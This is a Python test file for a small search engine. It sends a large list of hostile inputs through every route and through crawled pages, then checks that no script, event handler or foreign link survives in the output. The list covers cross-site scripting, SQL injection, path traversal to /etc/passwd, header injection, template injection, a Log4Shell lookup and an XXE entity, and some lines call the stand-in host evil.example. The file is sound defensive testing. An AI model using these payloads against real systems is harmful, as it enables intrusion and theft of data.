"""Hostile content and hostile requests: every page stays whole, whatever pages, titles, addresses and queries hold."""

import pytest
from selectolax.lexbor import LexborHTMLParser

from minisearch import Engine
from minisearch.web.app import create_app

# After the OWASP cheat sheets on cross-site scripting, SQL injection, path traversal and server-side templates.
PAYLOADS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)>",
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<details open ontoggle=alert(1)>",
    "<form action=//evil.example><button>x",
    "' onfocus=alert(1) autofocus x='",
    '" onmouseover="alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{ 1337 * 7331 }}",
    "{% raw %}{{ config }}{% endraw %}",
    "${1337*7331}",
    "#{1337*7331}",
    "' OR '1'='1",
    "'; DROP TABLE pages; --",
    "1 UNION SELECT url FROM urls",
    '" MATCH "a',
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "/etc/passwd%00.html",
    "\x00",
    "\r\nSet-Cookie: a=b",
    "%0d%0aLocation: //evil.example",
    "\u202egnp.exe\u202d",
    "\u2066\u2067\u2068\u2069",
    "\ud800",
    "🌹" * 50,
    "a" * 100_000,
    "(" * 2000,
    '"' * 500,
    "* " * 300,
    "${jndi:ldap://evil.example/a}",
    "<xml><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
]
SCHEMES = ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "JaVaScRiPt:alert(1)"]

FORBIDDEN = {"iframe", "img", "object", "embed", "base", "style", "textarea", "frame", "video", "audio"}
PATHS = [
    "/search?q={}",
    "/lucky?q={}",
    "/suggest?q={}",
    "/explain?q={}",
    "/term/?word={}",
    "/why?url={}",
    "/page?url={}",
    "/learn/{}",
]
MORE = ["/explain?q=rose&url={}", "/search?q=rose&site={}&lang={}&sort={}&blend={}&page={}", "/api/search?q={}", "/{}"]

LAB = [
    *("/lab?text={}", "/lab?edits={}", "/lab?web={}", "/lab?farm={}&doors={}", "/lab?teleport={}&numbers={}"),
    *("/lab?query={}&from={}&to={}", "/lab/what-if?query={}", "/lab/export.{}", "/lab/export.svg?text={}"),
    *("/graph?by={}&colour={}&n={}", "/graph/export.{}", "/api/lab?text={}", "/api/graph?by={}"),
]


def quoted(payload):
    from urllib.parse import quote

    return quote(payload.encode("utf-8", "surrogatepass"), safe="")[:6000]


def check_whole(answer):
    """Nothing on a page but what we put there, as a browser would see it."""
    page = LexborHTMLParser(answer.text)
    for tag in page.css("*"):
        attributes = {name.lower(): value or "" for name, value in tag.attributes.items()}
        assert not [name for name in attributes if name.startswith("on") or name == "style"], tag.html
        assert tag.tag not in FORBIDDEN, tag.html
        assert tag.tag != "script" or attributes["src"].startswith("/static/")
        for name in ("href", "action", "src"):
            assert attributes.get(name, "/").startswith(("/", "http://127.0.0.1", "#")), tag.html
    assert len(page.css("head title")) == len(page.css("main")) == 1
    return page


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_pages_are_complete_for_any_query(client, payload):
    for path in PATHS + MORE:
        answer = client.get(path.replace("{}", quoted(payload)))
        assert answer.status_code in (200, 302, 308, 400, 404), path
        assert "Set-Cookie" not in answer.headers
        if answer.status_code < 300 and answer.mimetype == "text/html":
            check_whole(answer)
        assert "root:" not in answer.text
        assert "9801547" not in answer.text  # no template of theirs was run


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_the_lab_executes_no_input(client, payload):
    for path in LAB:
        answer = client.get(path.replace("{}", quoted(payload)))
        assert answer.status_code in (200, 302, 308, 400, 404), path
        assert "9801547" not in answer.text
        if answer.mimetype in ("text/html", "image/svg+xml"):
            for tag in LexborHTMLParser(answer.text).css("*"):
                assert not [name for name in tag.attributes if name.lower().startswith("on") or name == "style"], path
                assert tag.tag not in FORBIDDEN - {"textarea", "style"}, path
                assert tag.tag != "script" or (tag.attributes.get("src") or "/static/").startswith("/static/"), path
                assert "alert" not in tag.text(deep=False) or tag.tag != "script" or "id" in tag.attributes, path


@pytest.fixture(scope="module")
def hostile(site, tmp_path_factory):
    """A site that tries everything: in titles, texts, headings, links, anchors and addresses."""
    from html import escape

    pages = {}
    for number, payload in enumerate(PAYLOADS):
        words = escape(payload.encode("utf-8", "replace").decode()[:5000])
        links = "".join(f'<a href="{scheme}">{words}</a>' for scheme in SCHEMES)
        pages[f"/p{number}/{quoted(payload)[:200]}.html"] = (
            f"<html lang=en><title>{words} tulip</title><h1>{words}</h1><p>tulip {words} {links}</p>"
        )
    pages["/long"] = f"<title>{'tulip ' * 170_000}</title><p>tulip"  # a title of 1 MB
    site.show({"/": list(pages), **pages})
    db = tmp_path_factory.mktemp("hostile") / "hostile.db"
    with Engine(db) as engine:
        engine.crawl(site.base + "/", workers=0)
    return db


def test_pages_are_complete_for_any_crawled_content(hostile):
    client = create_app(str(hostile)).test_client()
    for page in range(1, 6):
        answer = client.get(f"/search?q=tulip&page={page}&fold=0")
        assert len(answer.data) < 100_000
        for link in check_whole(answer).css(".hits h2 a"):
            assert link.attributes["href"].startswith("http://127.0.0.1")
    with Engine(hostile, read_only=True) as engine:
        numbers = range(1, engine.size() + 1)
    for number in numbers:
        for path in (f"/page/{number}", f"/page/{number}/text"):
            answer = client.get(path)
            assert answer.status_code == 200
            check_whole(answer)


def test_a_link_with_another_scheme_is_shown_as_text(hostile):
    client = create_app(str(hostile)).test_client()
    page = check_whole(client.get("/why?url=javascript:alert(1)"))
    assert "javascript:alert(1)" in page.css_first("main .subject").text()
    assert not page.css("main .subject a")
